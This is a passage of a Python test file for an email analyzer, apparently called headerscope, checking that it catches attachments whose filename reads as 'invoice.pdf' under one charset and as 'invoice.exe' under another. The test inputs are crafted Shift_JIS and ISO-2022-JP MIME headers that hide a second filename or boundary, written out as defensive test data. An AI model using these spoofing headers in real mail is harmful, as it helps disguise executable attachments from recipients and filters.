        report = _mixed_bytes(sjis, part)
        [file] = report.attachments
        assert file.filename == "invoice.pdf"
        assert file.risk is not None and "“invoice.exe”" in file.risk, junk
        assert "attachment.names_disagree" in _ids(report)
        # The same byte before a nested multipart's two boundaries.
        header, bodies = _two_boundaries(b"AAA")
        header = header.replace(b'x="', b'z="' + junk + b'"; x="')
        report = _mixed_bytes(sjis, header + b"\r\n\r\n" + bodies)
        assert "attachment.structure_disagrees" in _ids(report), junk
    jis, ascii_again = b"\x1b$B", b"\x1b(B"
    iso = b"Content-Type: text/plain; charset=iso-2022-jp\r\n\r\nhi"
    for junk in (jis + b"!" + ascii_again, jis + b"\x7f\x7f" + ascii_again, b"\x80"):
        part = (b'Content-Type: application/octet-stream\r\nContent-Disposition: attachment; z="' + junk
                + b'"; x="' + jis + b'0"' + ascii_again + b'; filename=invoice.pdf; y="; filename="invoice.exe"'
                b"\r\nContent-Transfer-Encoding: base64\r\n\r\nTVqQAA==")
        report = _mixed_bytes(iso, part)
        [file] = report.attachments
        assert file.filename == "invoice.pdf", junk
        assert file.risk is not None and "“invoice.exe”" in file.risk, junk
        assert "attachment.names_disagree" in _ids(report)


def test_every_legacy_charset_the_parts_declare_reads_a_raw_part_header() -> None:
    # Verification V64a D-4: only the first legacy charset was tried; a us-ascii or ISO-8859-1
    # text part (both windows-1252, which reads every byte alone, as the bytes do) or an EUC-KR one
    # before the Shift_JIS HTML part Outlook shows hid Shift_JIS's reading, 'invoice.exe'.
    attachment = (b'Content-Type: application/octet-stream\r\nContent-Disposition: attachment; x="\x95\\"; '
                  b'filename=invoice.exe; y="; filename="invoice.pdf"\r\nContent-Transfer-Encoding: base64\r\n\r\nTVqQAA==')
    for charset in (b"us-ascii", b"iso-8859-1", b"euc-kr"):
        alternative = (b'Content-Type: multipart/alternative; boundary="ALT"\r\n\r\n--ALT\r\n'
                       b"Content-Type: text/plain; charset=" + charset + b"\r\n\r\nhi\r\n--ALT\r\n"
                       b"Content-Type: text/html; charset=Shift_JIS\r\n\r\n<p>" + "請求書".encode("cp932")
                       + b"</p>\r\n--ALT--")
        report = _mixed_bytes(alternative, attachment)
        [file] = report.attachments
        assert file.filename == "invoice.pdf"
        assert file.risk is not None and "“invoice.exe”" in file.risk, charset
        [said] = [f for f in report.findings if f.id == "attachment.names_disagree"]
        assert "“invoice.exe” in its header read as Shift_JIS" in said.title
    # A genuine Shift_JIS name under the same parts: every reading agrees, nothing disagrees.
    genuine = (b'Content-Type: application/vnd.ms-excel; name="' + "一覧.xls".encode("shift_jis")
               + b'"\r\nContent-Transfer-Encoding: base64\r\n\r\nTVqQAA==')
    report = _mixed_bytes(alternative, genuine)
    assert [a.filename.endswith(".xls") for a in report.attachments if a.filename] == [True]
    assert "attachment.names_disagree" not in _ids(report)
    assert "attachment.structure_disagrees" not in _ids(report)


def test_the_messages_own_multipart_header_in_raw_iso_2022_jp_is_walked_as_its_bytes_and_told() -> None:
    # Verification V64a D-3: the message's own multipart header in raw ISO-2022-JP was walked in
    # its ISO-2022-JP reading only ('x="ESC$B0"ESC(B' is 唖, so the boundary is BBB), while Python's
    # email and Thunderbird split it byte by byte (boundary AAA), under which the .exe was.
    jis, ascii_again = b"\x1b$B", b"\x1b(B"
    header = (b'Content-Type: multipart/mixed; x="' + jis + b'0"' + ascii_again
              + b'; boundary=AAA; y="; boundary="BBB"')
    for exe_in, listed in ((b"AAA", "invoice.exe"), (b"BBB", "invoice.pdf")):
        _, bodies = _two_boundaries(exe_in)
        bodies = bodies.replace(b"charset=Shift_JIS", b"charset=iso-2022-jp")
        report = headerscope.analyze(_HEAD.encode() + header + b"\r\n\r\n" + bodies, offline=True)
        assert [(a.position, a.filename) for a in report.attachments] == [("2", listed)], exe_in
        [said] = [f for f in report.findings if f.id == "attachment.structure_disagrees"]
        assert "the message's own header: boundary “AAA” byte by byte, “BBB” in the charset" in said.explanation
        assert ("attachment.risky_type" in _ids(report)) == (exe_in == b"AAA")
    # A genuine ISO-2022-JP parameter in the message's own header gives one structure: nothing told.
    genuine = (b'Content-Type: multipart/mixed; boundary="AAA"; x-title="' + "見積書".encode("iso2022_jp") + b'"')
    _, bodies = _two_boundaries(b"AAA")
    report = headerscope.analyze(_HEAD.encode() + genuine + b"\r\n\r\n" + bodies, offline=True)
    assert [a.filename for a in report.attachments] == ["invoice.exe"]
    assert "attachment.structure_disagrees" not in _ids(report)


def test_a_genuine_raw_iso_2022_jp_name_a_quote_in_its_jis_codes_cuts_is_listed_whole() -> None:
    # Verification V64a D-5: the JIS codes of ア ('%"'), あ ('$"') and ※ ('"(') hold a quote, which
    # ends the quoted string byte by byte: 'アンケート.xls' was listed as "%", 'ありがとう.jpg' as "$",
    # '※重要.pdf' as no name, each with a false names_disagree warning.
    text = b"Content-Type: text/plain; charset=iso-2022-jp\r\n\r\nhi"
    for name, content_type in (("アンケート.xls", b"application/vnd.ms-excel"), ("ありがとう.jpg", b"image/jpeg"),
                               ("※重要.pdf", b"application/pdf")):
        jis = name.encode("iso2022_jp")
        part = (b"Content-Type: " + content_type + b'; name="' + jis + b'"\r\nContent-Disposition: attachment; '
                b'filename="' + jis + b'"\r\nContent-Transfer-Encoding: base64\r\n\r\nAAAA')
        report = _mixed_bytes(text, part)
        assert [a.filename for a in report.attachments] == [name]
        assert set(_ids(report)) == {"attachment.legacy_charset_name"}, name
    # Forgeries: the ISO-2022-JP name is listed and checked whole ('ア.exe' is a risky type), and a
    # byte reading with another extension than the ISO-2022-JP one is told as before.
    jis, ascii_again = b"\x1b$B", b"\x1b(B"
    part = (b'Content-Type: application/octet-stream\r\nContent-Disposition: attachment; filename="' + jis
            + b'%"' + ascii_again + b'.exe"\r\nContent-Transfer-Encoding: base64\r\n\r\nTVqQAA==')
    report = _mixed_bytes(text, part)
    assert [a.filename for a in report.attachments] == ["ア.exe"]
    assert "attachment.risky_type" in _ids(report)
    part = (b'Content-Type: application/octet-stream\r\nContent-Disposition: attachment; x="' + jis + b'0"'
            + ascii_again + b'; filename=invoice.pdf; y="; filename="invoice.exe"\r\n'
            b"Content-Transfer-Encoding: base64\r\n\r\nTVqQAA==")
    report = _mixed_bytes(text, part)
    assert [a.filename for a in report.attachments] == ["invoice.pdf"]
    assert {"attachment.risky_type", "attachment.names_disagree"} <= set(_ids(report))
